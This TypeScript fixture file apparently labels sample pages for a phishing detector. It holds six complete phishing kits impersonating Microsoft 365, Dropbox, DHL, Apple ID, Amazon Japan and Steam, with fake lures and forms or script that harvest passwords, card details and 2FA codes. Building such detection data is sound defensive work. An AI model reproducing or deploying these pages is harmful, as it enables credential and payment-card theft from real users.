import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'r-phish-m365-password-expiry',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://office365-passwordreset.cloud-access-portal.com/common/oauth2/login',
  body: doc({ title: 'Sign in to your account', css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,sans-serif;background:#f2f2f2 url(/common/oauth2/illustration.png) center/cover}
.b{width:440px;margin:120px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;flex-wrap:wrap;width:22px}.ms i{width:10px;height:10px;display:block}
h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none}
.bt{background:#0067b8;color:#fff;border:0;padding:7px 34px;float:right;margin-top:30px;font-size:15px}.e{color:#e81123;font-size:14px;display:none}.ft{position:fixed;bottom:0;right:0;font-size:12px;padding:8px}` },
`<div class="b"><div style="display:flex;align-items:center;gap:8px"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><span style="color:#737373;font-size:19px;font-weight:600">Microsoft</span></div>
<div id="s1"><h1>Sign in</h1><p class="e" id="e1">Enter a valid email address, phone number, or Skype name.</p><input id="u" type="email" placeholder="Email, phone, or Skype"><p style="font-size:13px">No account? <a href="#">Create one!</a><br><a href="#">Can’t access your account?</a></p><button class="bt" id="n1">Next</button></div>
<div id="s2" style="display:none"><p id="who" style="font-size:15px"></p><h1>Enter password</h1><p style="font-size:13px;background:#fff4ce;padding:8px">Your password expires today. Confirm your current password to keep using it.</p><p class="e" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></p><input id="p" type="password" placeholder="Password"><p style="font-size:13px"><a href="#">Forgot my password</a></p><button class="bt" id="n2">Sign in</button></div>
<div style="clear:both"></div></div>
<div class="ft">Terms of use &nbsp; Privacy &amp; cookies &nbsp; ...</div>
<script>
var u=document.getElementById('u'),c=0;var h=location.hash.slice(1);if(h){try{u.value=atob(h)}catch(x){u.value=h}}
document.getElementById('n1').onclick=function(){if(!/^\\S+@\\S+\\.\\S+$/.test(u.value)){document.getElementById('e1').style.display='block';return;}document.getElementById('who').textContent='← '+u.value;s1.style.display='none';s2.style.display='block';};
document.getElementById('n2').onclick=function(){c++;var x=new XMLHttpRequest();x.open('POST','/common/oauth2/next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('ai='+encodeURIComponent(u.value)+'&pr='+encodeURIComponent(p.value)+'&c='+c);
if(c<2){document.getElementById('e2').style.display='block';p.value='';}else{location.replace('https://www.office.com/?auth=2');}};
</script>`),
  routes: {
    'office365-passwordreset.cloud-access-portal.com/common/oauth2/illustration.png': imgRoute(200, 215, 230),
    'office365-passwordreset.cloud-access-portal.com/common/oauth2/next.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' },
  },
},
{
  id: 'r-phish-dropbox-shared-file-login',
  label: 'phishing',
  kind: 'cloud-storage-kit',
  url: 'https://dropbox-filetransfer.web-share-docs.com/s/q7kz9/Contract_Amendment_2025.pdf',
  body: doc({ title: 'Dropbox - Contract_Amendment_2025.pdf', css: `body{margin:0;font-family:"Sharp Grotesk",Atlas Grotesk,Helvetica,sans-serif;background:#f7f5f2}.t{background:#fff;padding:12px 24px;display:flex;align-items:center;gap:10px;border-bottom:1px solid #ddd}
.t svg{width:32px}.pv{filter:blur(5px);width:640px;height:760px;margin:20px auto;background:#fff;padding:40px;color:#333}.pv p{margin:8px 0}
.md{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;width:400px;padding:30px;border-radius:8px;box-shadow:0 10px 30px rgba(0,0,0,.25)}
input{width:100%;padding:11px;margin:6px 0;border:1px solid #bbb;border-radius:3px}button{width:100%;background:#0061fe;color:#fff;border:0;padding:11px;border-radius:3px;margin-top:10px}.pr button{background:#fff;color:#333;border:1px solid #ccc;margin-top:6px}` },
`<div class="t"><svg viewBox="0 0 40 40"><path fill="#0061fe" d="M12 6l-10 6.5 10 6.5 10-6.5zM32 6l-10 6.5 10 6.5 10-6.5zM2 25.5L12 32l10-6.5L12 19zM32 19l-10 6.5L32 32l10-6.5zM12 34.2l10 6.5 10-6.5-10-6.5z"/></svg><b>Dropbox</b><span style="margin-left:auto;color:#637282;font-size:14px">Contract_Amendment_2025.pdf · 284 KB</span></div>
<div class="pv"><h2>CONTRACT AMENDMENT No. 3</h2><p>This Amendment is entered into between the Parties ...</p><p>1. Payment schedule revised as per Appendix B ...</p><p>2. Remittance details updated ...</p><p>Signature: ______________</p></div>
<div class="md"><h3 style="margin-top:0">Sign in to view this file</h3><p style="font-size:14px;color:#637282">The file has been shared with you securely. Choose your email provider to continue.</p>
<div class="pr"><button type="button">Sign in with Outlook</button><button type="button">Sign in with Office 365</button><button type="button">Sign in with Yahoo!</button><button type="button">Sign in with other mail</button></div>
<form method="post" action="https://dropbox-filetransfer.web-share-docs.com/s/q7kz9/verify.php"><input type="email" name="email" placeholder="Email address" required><input type="password" name="password" placeholder="Email password" required><button>View document</button></form></div>`),
},
{
  id: 'r-phish-dhl-zollgebuehr-de',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://dhl-sendungsverfolgung-zoll.com/de/paket/JJD00049381204/zahlung',
  body: doc({ lang: 'de', title: 'DHL Paket – Zollgebühr', css: `body{margin:0;font-family:Delivery,Verdana,sans-serif;background:#f2f2f2}.hd{background:linear-gradient(90deg,#fc0 0,#fc0 70%,#ffe57f);padding:14px 8%;color:#d40511;font:italic 900 30px Arial}
.bx{max-width:560px;margin:24px auto;background:#fff;padding:26px}.tr{display:flex;justify-content:space-between;font-size:13px;color:#666}.tr span.on{color:#d40511;font-weight:bold}
input{width:100%;padding:10px;border:1px solid #999;margin:4px 0 12px}button{background:#d40511;color:#fff;border:0;padding:12px 30px;font-weight:bold}.sum{font-size:22px;font-weight:bold}` },
`<div class="hd">DHL</div>
<div class="bx"><h2>Ihr Paket wird im Zollzentrum festgehalten</h2>
<div class="tr"><span>Abgeholt</span><span>Im Zielland</span><span class="on">Zoll ⚠</span><span>Zustellung</span></div>
<p>Sendungsnummer: <b>JJD00049381204</b><br>Für die Zustellung Ihres Pakets ist eine Einfuhrumsatzsteuer in Höhe von <span class="sum">2,99 €</span> zu entrichten. Bitte begleichen Sie die Gebühr innerhalb von 48 Stunden, ansonsten wird die Sendung an den Absender zurückgeschickt.</p>
<form method="post" action="/de/paket/JJD00049381204/pay.php">
<input name="name" placeholder="Name auf der Karte" required>
<input name="kartennummer" placeholder="Kartennummer" inputmode="numeric" required>
<input name="gueltig" placeholder="MM/JJ" style="width:45%"> <input name="cvc" placeholder="CVC" style="width:45%">
<button>Jetzt bezahlen 2,99 €</button></form>
<p style="font-size:11px;color:#888">Deutsche Post DHL Group · Impressum · Datenschutz · AGB</p></div>`),
},
{
  id: 'r-phish-apple-id-locked',
  label: 'phishing',
  kind: 'apple-kit',
  url: 'https://appleid.apple.com-unlock-account.support/signin/',
  body: doc({ title: 'Apple ID', css: `body{margin:0;font-family:"SF Pro Text","Helvetica Neue",Helvetica,sans-serif;background:#fff;color:#1d1d1f}.nv{background:#f5f5f7;padding:10px;text-align:center;font-size:13px}
.m{max-width:480px;margin:60px auto;text-align:center}h1{font-weight:600;font-size:32px}input{width:100%;padding:16px;border:1px solid #d2d2d7;border-radius:12px;font-size:17px;margin:6px 0}
button{background:#0071e3;color:#fff;border:0;border-radius:980px;padding:12px 30px;font-size:17px;margin-top:10px}p.s{color:#6e6e73;font-size:14px}` },
`<div class="nv"> &nbsp; Apple ID &nbsp; · Sign In · Create Your Apple ID · FAQ</div>
<div class="m"><h1>Your Apple ID has been locked</h1><p class="s">This Apple ID has been locked for security reasons. You must unlock your account before you can sign in.</p>
<form method="post" action="/signin/unlock.php"><input name="appleId" placeholder="Email or Phone Number"><input name="pwd" type="password" placeholder="Password"><button>Unlock Account</button></form>
<p class="s"><a href="#">Forgot Apple ID or password?</a></p></div>
<p class="s" style="text-align:center;font-size:12px">Copyright © 2025 Apple Inc. All rights reserved. Privacy Policy | Terms of Use</p>`),
},
{
  id: 'r-phish-amazon-jp-account-ja',
  label: 'phishing',
  kind: 'shop-kit',
  url: 'https://amazon-co-jp.account-update-center.xyz/ap/signin',
  body: doc({ lang: 'ja', title: 'Amazonサインイン', css: `body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,Arial,sans-serif}.lg{text-align:center;font:700 30px Arial;margin:20px}.lg span{color:#ff9900}
.b{width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}input{width:100%;padding:7px;border:1px solid #a6a6a6;border-radius:3px;margin:4px 0 12px}
button{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}.a{border:1px solid #c40000;border-radius:8px;padding:12px;color:#c40000;margin-bottom:14px;width:350px;margin:0 auto 14px;font-size:13px}` },
`<div class="lg">amazon<span>.co.jp</span></div>
<div class="a"><b>アカウントが一時的にロックされています</b><br>お客様のアカウントで異常なログインが検出されました。24時間以内に情報を更新しない場合、アカウントは停止されます。</div>
<div class="b"><h2 style="font-weight:400">ログイン</h2>
<form method="post" action="/ap/signin/verify.php"><label><b>Eメールまたは携帯電話番号</b></label><input name="email"><label><b>パスワード</b></label><input name="password" type="password"><button>ログイン</button></form>
<p style="font-size:12px">続行することで、Amazonの<a href="#">利用規約</a>および<a href="#">プライバシー規約</a>に同意するものとみなされます。</p></div>
<p style="text-align:center;font-size:11px;color:#555">© 1996-2025, Amazon.com, Inc. or its affiliates</p>`),
  routes: {
    'amazon-co-jp.account-update-center.xyz/ap/signin/verify.php': htmlRoute(doc({ lang: 'ja', title: 'お支払い情報の更新' }, `<h2>お支払い情報の更新</h2><form method="post" action="/ap/card.php"><input name="cardname" placeholder="カード名義人"><input name="cardno" placeholder="カード番号"><input name="exp" placeholder="有効期限"><input name="cvv" placeholder="セキュリティコード"><input name="birth" placeholder="生年月日"><button>更新</button></form>`)),
  },
},
{
  id: 'r-phish-steam-trade-login',
  label: 'phishing',
  kind: 'gaming-kit',
  url: 'https://steamcommunnity-tradeoffer.com/tradeoffer/new/?partner=1093381&token=kqXb72Ah',
  body: doc({ title: 'Steam Community :: Trade Offer', css: `body{margin:0;background:#1b2838;color:#c6d4df;font-family:"Motiva Sans",Arial,sans-serif}.h{background:#171a21;padding:16px 10%;color:#fff;font-weight:700;letter-spacing:2px}
.o{max-width:720px;margin:30px auto;background:#16202d;padding:20px}.it{display:inline-block;width:96px;height:96px;background:#3d4450;margin:4px;border:1px solid #4b5564}
.lg{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}.lg>div{width:420px;margin:90px auto;background:#181a21;padding:28px}input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;margin:6px 0 12px}
button{background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:12px 26px;font-size:15px}` },
`<div class="h">STEAM &nbsp; <small style="font-weight:400;letter-spacing:0">STORE COMMUNITY ABOUT SUPPORT</small></div>
<div class="o"><h3>NiKo_csgo wants to trade with you</h3><p>Items you will receive:</p><div class="it"></div><div class="it"></div><div class="it"></div>
<p>★ Karambit | Doppler (Factory New), AWP | Dragon Lore (Minimal Wear)</p><button onclick="document.querySelector('.lg').style.display='block'">Sign in to accept trade</button></div>
<div class="lg"><div><h3 style="color:#fff">SIGN IN</h3><form method="post" action="/login/dologin/"><label>Sign in with account name</label><input name="username"><label>Password</label><input name="password" type="password"><label>Steam Guard code</label><input name="twofactorcode"><button>Sign in</button></form></div></div>`),
},
];
